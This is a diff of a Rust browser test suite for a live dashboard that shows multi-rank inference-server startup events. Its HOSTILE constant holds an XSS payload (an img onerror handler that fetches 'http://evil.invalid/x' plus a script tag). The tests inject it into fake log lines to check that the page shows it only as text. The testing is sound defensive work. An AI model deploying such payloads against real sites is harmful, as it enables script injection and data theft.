@@ -146,7 +146,8 @@ fn serve(c: TcpStream, events: Arc<(Mutex<Vec<String>>, Condvar)>, cut: Arc<Atom
 }
 
 /// A hostile log line: markup that would load an image (a request) and run code if it were parsed as HTML.
-const HOSTILE: &str = r#"<img src=x onerror="window.__pwned=1;fetch('http://evil.invalid/x')"><script>window.__pwned=2</script>"#;
+const HOSTILE: &str =
+    r#"<img src=x onerror="window.__pwned=1;fetch('http://evil.invalid/x')"><script>window.__pwned=2</script>"#;
 
 /// A two-rank SGLang start over two hosts (`--hosts --multi-node`: every event carries `host` and `rank`),
 /// rank 1 running out of GPU memory in weights: the events' fields as docs/events.md and the captured
@@ -162,27 +163,39 @@ fn two_ranks_crash() -> Vec<Value> {
         format!("log line: {HOSTILE}"),
     ];
     vec![
-        tag(json!({"event":"launched","name":"kimi","pid":16491,"keeper_pid":16489,"run_dir":"/var/lib/vigil/runs/kimi.n0","t_ms":0}), 0),
-        tag(json!({"event":"start","log":"/var/lib/vigil/runs/kimi.n0/server.log","pid":16491,"server":"sglang","t_ms":0,"url":"http://127.0.0.1:30000/health"}), 0),
+        tag(
+            json!({"event":"launched","name":"kimi","pid":16491,"keeper_pid":16489,"run_dir":"/var/lib/vigil/runs/kimi.n0","t_ms":0}),
+            0,
+        ),
+        tag(
+            json!({"event":"start","log":"/var/lib/vigil/runs/kimi.n0/server.log","pid":16491,"server":"sglang","t_ms":0,"url":"http://127.0.0.1:30000/health"}),
+            0,
+        ),
         tag(json!({"event":"phase","phase":"dist_init","from":"launch","at_ms":61969,"t_ms":62006}), 0),
         tag(json!({"event":"phase","phase":"dist_init","from":"launch","at_ms":62511,"t_ms":62540}), 1),
         json!({"event":"multi_node_phase","phase":"dist_init","slowest_rank":1,"slowest_host":"gpu2","host":"gpu1","rank":0,"t_ms":63309}),
-        tag(json!({"event":"phase","phase":"weights","from":"dist_init","at_ms":67023,"usual_ms":2100,"eta_ms":70000,"t_ms":67059}), 0),
+        tag(
+            json!({"event":"phase","phase":"weights","from":"dist_init","at_ms":67023,"usual_ms":2100,"eta_ms":70000,"t_ms":67059}),
+            0,
+        ),
         tag(json!({"event":"progress","phase":"weights","k":12,"n":52,"eta_ms":66000,"t_ms":67179}), 0),
         tag(json!({"event":"phase","phase":"weights","from":"dist_init","at_ms":67400,"t_ms":67431}), 1),
         tag(json!({"event":"line","text":HOSTILE,"t_ms":68001}), 1),
         tag(json!({"event":"note","message":format!("rank 1 (gpu2): {HOSTILE}"),"t_ms":68002}), 0),
         tag(json!({"event":"phase","phase":"kv_cache","from":"weights","at_ms":68847,"t_ms":68883}), 0),
-        tag(json!({
-            "event":"verdict","t_ms":69120,"verdict":"crashed","phase":"weights","cause":"gpu_oom","server":"sglang",
-            "hint":"the weights do not fit: raise --tp or lower --mem-fraction-static",
-            "detail":"exited with status 1","evidence":evidence,
-            "last_lines":[HOSTILE, "[2026-12-02 06:56:42 TP1] Scheduler hit an exception"],
-            "timeline":[{"phase":"launch","at_ms":0,"duration_ms":62511},{"phase":"dist_init","at_ms":62511,"duration_ms":4889},
-                        {"phase":"weights","at_ms":67400,"duration_ms":1720,"median_ms":2100}],
-            "laggards":[],"progress":null,"exit":{"code":1,"signal":null,"ours":true},"elapsed_ms":69120,
-            "baseline":{"startups":3,"total_ms_median":136510,"ratio":0.51}
-        }), 1),
+        tag(
+            json!({
+                "event":"verdict","t_ms":69120,"verdict":"crashed","phase":"weights","cause":"gpu_oom","server":"sglang",
+                "hint":"the weights do not fit: raise --tp or lower --mem-fraction-static",
+                "detail":"exited with status 1","evidence":evidence,
+                "last_lines":[HOSTILE, "[2026-12-02 06:56:42 TP1] Scheduler hit an exception"],
+                "timeline":[{"phase":"launch","at_ms":0,"duration_ms":62511},{"phase":"dist_init","at_ms":62511,"duration_ms":4889},
+                            {"phase":"weights","at_ms":67400,"duration_ms":1720,"median_ms":2100}],
+                "laggards":[],"progress":null,"exit":{"code":1,"signal":null,"ours":true},"elapsed_ms":69120,
+                "baseline":{"startups":3,"total_ms_median":136510,"ratio":0.51}
+            }),
+            1,
+        ),
         json!({"event":"multi_node_verdict","exit":3,"verdict":"crashed","phase":"weights","decided_by":{"host":"gpu2","rank":1},
                "hosts":[{"host":"gpu1","rank":0,"verdict":"crashed","exit":3,"phase":"kv_cache","detail":"stopped: rank 1 failed"},
                         {"host":"gpu2","rank":1,"verdict":"crashed","exit":3,"phase":"weights","detail":"exited with status 1"}]}),
@@ -205,7 +218,7 @@ fn check_standin(script: &[Value]) -> Option<(Browser, Seen, StandIn)> {
 #[test]
 fn page_shows_each_rank_and_the_verdict_live_with_no_request_off_origin() {
     let script = two_ranks_crash();
-    let Some((mut b, seen, _s)) = check_standin(&script) else { return };
+    let Some((mut b, seen, s)) = check_standin(&script) else { return };
     // every phase of both ranks, the least advanced rank, each rank's verdict and the group's were checked
     let names: Vec<&str> = seen.gaps.iter().map(|g| g.0.as_str()).collect();
     assert!(names.contains(&"rank 1 phase \"weights\""), "{names:?}");
@@ -229,7 +242,7 @@ fn page_shows_each_rank_and_the_verdict_live_with_no_request_off_origin() {
     assert!(base[2].as_u64().unwrap() >= 1, "{base}");
     hostile_is_text(&mut b);
     // the hostile lines asked for nothing either (every request so far: own origin, allowed paths)
-    check_requests(&mut b, &seen.requests[0], PATHS);
+    check_requests(&mut b, &s.url(), PATHS);
 }
 
 /// The hostile markup shows as text wherever an event carries it: no element, no code run, no request.
@@ -240,7 +253,11 @@ fn hostile_is_text(b: &mut Browser) {
          document.getElementById('evidence').textContent.indexOf(h) >= 0, document.getElementById('last-lines').textContent.indexOf(h) >= 0]; }})({})",
         serde_json::to_string(HOSTILE).unwrap()
     ));
-    assert_eq!(r, json!([0, 1, "undefined", true, true, true]), "[img, script, __pwned, in log, in evidence, in last lines]");
+    assert_eq!(
+        r,
+        json!([0, 1, "undefined", true, true, true]),
+        "[img, script, __pwned, in log, in evidence, in last lines]"
+    );
 }
 
 /// A single-rank llama-server start with history: one row, the current phase with progress k/n and ETA while
@@ -255,6 +272,11 @@ fn page_single_rank_progress_eta_and_ready() {
         json!({"event":"progress","phase":"weights","k":7,"n":52,"detail":"bs=160 avail_mem=38.07 GB","eta_ms":48000,"t_ms":4006}),
     ];
     let Some((mut b, _seen, s)) = check_standin(&script) else { return };
+    // the progress event has no check of its own in page_check: wait until the page applied it (id 3)
+    assert!(
+        b.wait_true("document.body.getAttribute('data-last-id') === '3'", WITHIN).is_some(),
+        "progress not applied"
+    );
     let now = b.eval("[document.querySelectorAll('#timeline .lane').length, document.getElementById('phase').getAttribute('data-phase'), \
         document.getElementById('progress').textContent, document.getElementById('progress-box').hidden, document.getElementById('eta-box').hidden, \
         document.getElementById('server').textContent, document.getElementById('usual').textContent]");
@@ -281,8 +303,9 @@ fn page_single_rank_progress_eta_and_ready() {
         Array.from(document.querySelectorAll('#timeline .bar')).map(function (b) { return b.getAttribute('data-phase') + ' ' + b.getAttribute('data-ms'); })]");
     assert_eq!(done, json!(["ready", true, true, "5", ["launch 5", "weights 30995", "kv_cache 2000"]]));
     // a reload: the stream replays from the start; the page is the same, once
+    b.eval("window.__before_reload = 1");
     b.call("Page.reload", json!({}));
-    let again = "document.getElementById('verdict').getAttribute('data-verdict') === 'ready' && document.querySelectorAll('#timeline .bar').length === 3 \
+    let again = "typeof window.__before_reload === 'undefined' && document.getElementById('verdict').getAttribute('data-verdict') === 'ready' && document.querySelectorAll('#timeline .bar').length === 3 \
         && document.querySelectorAll('#timeline .lane').length === 1 && document.body.getAttribute('data-last-id') === '6'";
     assert!(b.wait_true(again, Duration::from_secs(20)).is_some(), "{}", b.eval("document.body.innerText"));
     check_requests(&mut b, &s.url(), PATHS);
@@ -300,7 +323,9 @@ fn page_resumes_after_the_stream_drops() {
     assert!(b.wait_true("document.body.getAttribute('data-last-id') === '1'", Duration::from_secs(30)).is_some());
     // the stream drops: the page says so, and the browser reconnects on its own
     s.cut_streams();
-    assert!(b.wait_true("document.getElementById('conn').getAttribute('data-state') !== 'live'", Duration::from_secs(10)).is_some());
+    assert!(b
+        .wait_true("document.getElementById('conn').getAttribute('data-state') !== 'live'", Duration::from_secs(10))
+        .is_some());
     s.send(&json!({"event":"phase","phase":"kv_cache","from":"weights","at_ms":900,"t_ms":901}));
     // EventSource retries after its reconnection delay (about 3 s in chromium)
     let ok = "document.body.getAttribute('data-last-id') === '2' && document.getElementById('conn').getAttribute('data-state') === 'live' \
@@ -373,7 +398,11 @@ fn e2e_page_against_vigil_up_listen() {
         done = x.1["event"] == "verdict";
         Some(x)
     };
-    let Some((mut b, seen)) = page_check(&format!("http://{addr}/"), Expectations { next: &mut next, within: WITHIN, paths: PATHS }) else { return };
+    let Some((mut b, seen)) =
+        page_check(&format!("http://{addr}/"), Expectations { next: &mut next, within: WITHIN, paths: PATHS })
+    else {
+        return;
+    };
     assert!(seen.gaps.iter().any(|g| g.0.starts_with("verdict \"ready\"")), "{:?}", seen.gaps);
     assert!(seen.gaps.iter().any(|g| g.0.contains("phase \"weights\"")), "{:?}", seen.gaps);
     assert_eq!(b.eval("document.getElementById('server').textContent"), "llama-cpp");
